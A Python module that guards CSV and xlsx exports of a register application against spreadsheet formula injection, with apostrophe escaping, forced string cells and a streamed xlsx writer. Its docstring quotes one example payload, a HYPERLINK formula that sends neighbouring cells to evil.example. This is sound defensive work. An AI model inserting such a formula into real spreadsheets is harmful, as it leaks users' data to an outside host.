"""The one formula-injection guard: every CSV and xlsx cell the program writes passes here.

Text in exports comes from citizens' mail, imported files and taxonomy labels. A
spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return
before one) as a formula, so `=HYPERLINK("http://evil.example/?"&B2;"Se sagen")` in a
subject would send the neighbouring cells away when the advisor opens the export.

- CSV: such a cell gets a leading apostrophe, which spreadsheets show as text. A value that
  already starts with apostrophes before a trigger gets one more, so `unguard` (applied by
  the CSV reader, store/tabular.py) gives back exactly what was exported: the register's
  export → import round trip stays lossless. Plain numbers (`-5`, `+4512345678`) are left
  alone: they are not formulas, and phone numbers must survive.
- xlsx: text cells are stored as strings (openpyxl would store `=…` as a formula; the
  streamed writer, write_plain_xlsx, writes inline strings), with the characters XML
  cannot hold replaced; the text itself is kept.

tests/store/test_cells.py greps the code base: `csv.writer`, `csv.DictWriter` and
`Workbook(` appear nowhere else, so a new writer cannot skip the guard.
"""

from __future__ import annotations

import csv
import re
import zipfile
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import TYPE_CHECKING, Any, TextIO
from xml.sax.saxutils import escape, quoteattr

if TYPE_CHECKING:
    from openpyxl import Workbook
    from openpyxl.cell.cell import Cell

_TRIGGER = re.compile(r"'*[ \t\r\n]*[=+\-@\t\r]")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")
# XML 1.0 cannot hold these; openpyxl refuses them (IllegalCharacterError).
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _dangerous(text: str) -> bool:
    return _TRIGGER.match(text) is not None and _PLAIN_NUMBER.fullmatch(text) is None


def csv_text(text: str) -> str:
    """A CSV cell's text that no spreadsheet runs as a formula."""
    return "'" + text if _dangerous(text) else text


def unguard(text: str) -> str:
    """The inverse of csv_text, for the CSV reader."""
    if text.startswith("'") and _dangerous(text[1:]):
        return text[1:]
    return text


def csv_value(v: object) -> object:
    return csv_text(v) if isinstance(v, str) else v


class CsvWriter:
    """csv.writer with every cell guarded. Same dialect arguments as csv.writer."""

    def __init__(self, fh: TextIO, **fmt: Any) -> None:
        self._w = csv.writer(fh, **fmt)

    def writerow(self, row: Iterable[object]) -> None:
        self._w.writerow([csv_value(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def new_workbook() -> Workbook:
    """An empty workbook with no sheets, for formatted tables (large plain exports use
    write_plain_xlsx)."""
    from openpyxl import Workbook

    wb = Workbook()
    wb.remove(wb.active)  # type: ignore[arg-type]
    return wb


def xlsx_cell(ws: Any, value: object, *, number_format: str | None = None) -> Cell:
    """A detached cell for `ws.append`: text stays text, never a formula."""
    from openpyxl.cell.cell import Cell

    if isinstance(value, str):
        value = _XML_ILLEGAL.sub("\ufffd", value)
    cell = Cell(ws, row=1, column=1, value=value)  # type: ignore[arg-type]  # append places it
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl marks '=…' a formula and '#N/A' an error
    if number_format is not None:
        cell.number_format = number_format
    return cell


def _xlsx_value(ws: Any, value: object, number_format: str | None) -> object:
    # Plain values are cheapest for openpyxl; a Cell only where the type must be forced.
    if number_format is None and (
        not isinstance(value, str) or not (value[:1] in ("=", "#") or _XML_ILLEGAL.search(value))
    ):
        return value
    return xlsx_cell(ws, value, number_format=number_format)


def xlsx_append(ws: Any, values: Sequence[object], *, formats: Sequence[str | None] = ()) -> None:
    """Append one row in constant time (asking the sheet for its max_row on every row, as
    the old helper did, made a 60,000-row export quadratic)."""
    fmts = list(formats) + [None] * (len(values) - len(formats))
    ws.append([_xlsx_value(ws, v, f) for v, f in zip(values, fmts, strict=False)])


# --------------------------------------------------------------- a plain, large sheet

_PARTS = {
    "[Content_Types].xml": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.'
        'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        '<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-'
        'officedocument.spreadsheetml.styles+xml"/></Types>'
    ),
    "_rels/.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    ),
    "xl/_rels/workbook.xml.rels": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/worksheet" Target="worksheets/sheet1.xml"/>'
        '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/styles" Target="styles.xml"/></Relationships>'
    ),
    "xl/styles.xml": (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<styleSheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
        '<fills count="2"><fill><patternFill patternType="none"/></fill>'
        '<fill><patternFill patternType="gray125"/></fill></fills>'
        '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border>'
        '</borders><cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" '
        'borderId="0"/></cellStyleXfs><cellXfs count="1"><xf numFmtId="0" fontId="0" '
        'fillId="0" borderId="0" xfId="0"/></cellXfs><cellStyles count="1">'
        '<cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
        "</styleSheet>"
    ),
}


def _column_letters(n: int) -> list[str]:
    out = []
    for i in range(1, n + 1):
        name = ""
        while i:
            i, r = divmod(i - 1, 26)
            name = chr(65 + r) + name
        out.append(name)
    return out


def write_plain_xlsx(path: Path, sheet: str, rows: Iterable[Sequence[object]]) -> None:
    """A one-sheet workbook of plain rows, streamed: text as inline strings (never a
    formula: the cell type says string), numbers as numbers, None as no cell. For large
    exports; openpyxl spent about 6 µs per cell, which made a 60,000-row register export
    several times slower than its CSV. Formatted tables use new_workbook."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for name, xml in _PARTS.items():
            zf.writestr(name, xml)
        zf.writestr(
            "xl/workbook.xml",
            (
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
                f'<sheets><sheet name={quoteattr(_XML_ILLEGAL.sub("", sheet)[:31])} sheetId="1" '
                'r:id="rId1"/></sheets></workbook>'
            ),
        )
        with zf.open("xl/worksheets/sheet1.xml", "w") as raw:
            raw.write(
                b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
                b'2006/main"><sheetData>'
            )
            letters: list[str] = []
            for n, row in enumerate(rows, start=1):
                if len(row) > len(letters):
                    letters = _column_letters(len(row))
                cells = [f'<row r="{n}">']
                for letter, v in zip(letters, row, strict=False):
                    if v is None or v == "":
                        continue
                    if isinstance(v, bool) or not isinstance(v, (int, float)):
                        text = escape(_XML_ILLEGAL.sub("\ufffd", str(v)))
                        cells.append(
                            f'<c r="{letter}{n}" t="inlineStr"><is>'
                            f'<t xml:space="preserve">{text}</t></is></c>'
                        )
                    else:
                        cells.append(f'<c r="{letter}{n}"><v>{v!r}</v></c>')
                cells.append("</row>")
                raw.write("".join(cells).encode("utf-8"))
            raw.write(b"</sheetData></worksheet>")
